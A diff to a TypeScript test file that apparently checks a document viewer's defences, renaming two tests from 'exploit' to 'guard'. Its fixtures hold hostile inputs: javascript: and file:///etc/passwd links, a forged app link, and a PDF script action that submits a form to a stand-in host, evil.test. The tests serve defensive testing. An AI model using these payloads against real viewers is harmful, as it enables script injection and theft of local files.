@@ -44,7 +44,7 @@ const LINKS = `<!doctype html><html><body><a href="https://a.test/x?y#z">plain</
   <a href="javascript:alert(1)">script</a> <a href="file:///etc/passwd">file</a> <a href="mailto:a@b.test">mail</a>
   <a href="app://desk/">app</a> <a role="link" tabindex="0" data-link="app://desk/">forged</a>`
 
-test('exploit: links are told to the page as they are, only by a click or Enter, and lead nowhere by themselves', async () => {
+test('guard: links are told to the page as they are, only by a click or Enter, and lead nowhere by themselves', async () => {
   const { page, frame, asked, said } = await showFile({
     type: 'html',
     bytes: text(LINKS),
@@ -78,7 +78,7 @@ test('exploit: links are told to the page as they are, only by a click or Enter,
   expect(frame.url()).toBe(`${ORIGIN}/viewer.html`)
 })
 
-test('exploit: a PDF with scripts and launch actions does nothing, and its links are told to the page', async () => {
+test('guard: a PDF with scripts and launch actions does nothing, and its links are told to the page', async () => {
   const annotation = (top: number, action: string) =>
     `<< /Type /Annot /Subtype /Link /Rect [60 ${top - 20} 300 ${top}] /Border [0 0 0] /A << ${action} >> >>`
   const script = `/S /JavaScript /JS (app.alert\\('hacked'\\); this.submitForm\\('https://evil.test/'\\))`
